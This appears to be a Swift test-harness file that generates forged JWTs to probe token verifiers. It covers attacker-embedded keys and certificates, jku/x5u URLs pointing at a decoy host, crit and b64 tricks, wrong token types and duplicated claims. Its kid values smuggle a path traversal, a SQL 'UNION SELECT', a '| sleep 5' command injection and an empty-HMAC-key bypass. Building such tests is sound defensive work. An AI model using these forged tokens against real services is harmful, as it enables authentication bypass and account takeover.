/// Tokens whose header asks for more than it may.
extension TokenMaterial {
    func headers(_ attack: TokenAttack) throws -> [ForgedToken] {
        switch attack {
        case .embeddedKey: try embedded("jwk", attacker.publicJWK)
        case .embeddedCertificate: try embedded("x5c", "[\"\(selfSigned())\"]")
        case .keyURL: try pointing("jku", decoy + "/jwks.json")
        case .certificateURL: try pointing("x5u", decoy + "/certificate.pem")
        case .critical: try critical()
        case .unencodedPayload: try unencoded()
        case .keyIdentifier: try identifiers()
        case .otherType: try types()
        case .repeatedHeader: try repeatedInHeader()
        default: try repeatedInClaims()
        }
    }

    /// The attacker's key, brought along, under the issuer's key's name, a name of its own, and none.
    private func embedded(_ name: String, _ text: String) throws -> [ForgedToken] {
        try [("the key's name", JSONText.string(key.id)), ("another name", "\"attacker\""), ("no name", nil)].map { title, kid in
            ForgedToken("\(name) under \(title)", try token(header([("kid", kid), (name, text)]), by: attacker))
        }
    }

    /// The attacker's own certificate for his key, as `x5c` has it (RFC 7515 section 4.1.6): good at any time.
    private func selfSigned() throws -> String {
        var template = CertificateTemplate(subject: DistinguishedName(commonName: "attacker"), usage: .client)
        (template.notBefore, template.notAfter) = (0, 4_102_444_800)
        let pem = try Certificate.issue(template, key: PrivateKey.reading(attacker.privatePEM), issuer: nil).pem()
        return pem.split(separator: "\n").filter { !$0.hasPrefix("-----") }.joined()
    }

    private func pointing(_ name: String, _ url: String) throws -> [ForgedToken] { try embedded(name, JSONText.string(url)) }

    private func critical() throws -> [ForgedToken] {
        let headers: [(String, [(String, String?)])] = [
            ("an extension nobody knows", [("crit", "[\"urn:x-test\"]"), ("urn:x-test", "1")]), ("an empty list", [("crit", "[]")]),
            ("a registered name", [("crit", "[\"alg\"]")]), ("a member that is absent", [("crit", "[\"gone\"]")]),
            ("a text", [("crit", "\"exp\"")]),
            ("exp", [("crit", "[\"exp\"]"), ("exp", "99999999999")]), ("null", [("crit", "null")]),
            ("a name twice", [("crit", "[\"x\",\"x\"]"), ("x", "1")]),
        ]
        return try headers.map { ForgedToken("crit: \($0.0)", try token(header($0.1))) }
    }

    /// RFC 7797 section 7: not for JWTs.
    private func unencoded() throws -> [ForgedToken] {
        let members = header([("b64", "false"), ("crit", "[\"b64\"]")])
        let (head, payload) = (encoded(members), encoded(claims))
        let raw = try TokenForge.signature("\(head).\(JSONText.object(claims))", key)
        return [
            ForgedToken("b64 false, signed over the raw payload", "\(head).\(payload).\(TokenForge.base64URL(raw))"),
            ForgedToken("b64 false, signed as ever", try token(members)),
            ForgedToken("b64 false without crit", try token(header([("b64", "false")]))),
        ]
    }

    /// A name that is a path, a statement, a URL, or no name at all; signed by the key that a careless look-up would find.
    private func identifiers() throws -> [ForgedToken] {
        let names: [(String, String?)] = [
            ("a path", "\"../../../../dev/null\""), ("a statement", "\"' UNION SELECT 'k\""), ("a URL", JSONText.string(decoy + "/k")),
            ("a command", "\"| sleep 5\""), ("two thousand letters", JSONText.string(String(repeating: "k", count: 2000))),
            ("a number", "42"),
            ("null", "null"), ("a list", "[\(JSONText.string(key.id))]"), ("an object", "{}"), ("an empty text", "\"\""), ("absent", nil),
            ("upper case", JSONText.string(key.id.uppercased())), ("a blank behind", JSONText.string(key.id + " ")),
            ("a NUL behind", JSONText.string(key.id + "\u{0}")),
            ("a wildcard", "\"*\""),
        ]
        return try names.flatMap { title, kid in
            let members = header([("kid", kid)])
            let empty = "\(encoded(header([("kid", kid), ("alg", "\"HS256\"")]))).\(encoded(claims))"
            return [
                ForgedToken("kid: \(title)", try token(members, by: attacker)),
                ForgedToken(
                    "kid: \(title), an empty MAC key", "\(empty).\(TokenForge.base64URL(TokenForge.hmac(empty, secret: [UInt8]())))"),
            ]
        }
    }

    /// JWTs of the same issuer for other purposes: only the type tells (RFC 8725 sections 3.11 and 3.12).
    private func types() throws -> [ForgedToken] {
        let types = [
            ("a proof of possession", "\"dpop+jwt\""), ("a logout token", "\"logout+jwt\""),
            ("a client's assertion", "\"client-authentication+jwt\""),
            ("a security event", "\"secevent+jwt\""), ("introspection's answer", "\"token-introspection+jwt\""),
            ("a refresh token", "\"refresh+jwt\""), ("an authorization request", "\"oauth-authz-req+jwt\""),
            ("no type", nil), ("null", "null"), ("a list", "[\"at+jwt\"]"), ("an empty type", "\"\""), ("a blank behind", "\"at+jwt \""),
            ("text/at+jwt", "\"text/at+jwt\""),
        ]
        return try types.map { ForgedToken("typ: \($0.0)", try token(header([("typ", $0.1)]))) }
    }

    /// Readers disagree which of two members of one name counts (RFC 7515 section 4).
    private func repeatedInHeader() throws -> [ForgedToken] {
        let twice: [(String, String)] = [
            ("alg", "\"none\""), ("alg", "\"HS256\""), ("kid", "\"another\""), ("typ", "\"JWT\""),
            ("alg", JSONText.string(key.algorithm.rawValue)),
        ]
        return try twice.flatMap { name, text in
            [
                ForgedToken("\(name) \(text) first", try token([(name, text)] + header)),
                ForgedToken("\(name) \(text) last", try token(header + [(name, text)])),
            ]
        }
    }

    private func repeatedInClaims() throws -> [ForgedToken] {
        let twice: [(String, String)] = [
            ("aud", "\"https://other.example/mcp\""), ("iss", "\"https://issuer.example\""), ("exp", "1"), ("exp", "99999999999"),
            ("scope", "\"mcp:read\""),
            ("sub", "\"admin\""), ("nbf", "99999999999"), ("client_id", "\"admin\""), ("jti", "\"another\""),
        ]
        return try twice.flatMap { name, text in
            let inClaims = claims.contains { $0.0 == name } ? claims : claims + [(name, text)]
            return [
                ForgedToken("\(name) \(text) first", try token(nil, [(name, text)] + inClaims)),
                ForgedToken("\(name) \(text) last", try token(nil, inClaims + [(name, text)])),
            ]
        }
    }
}
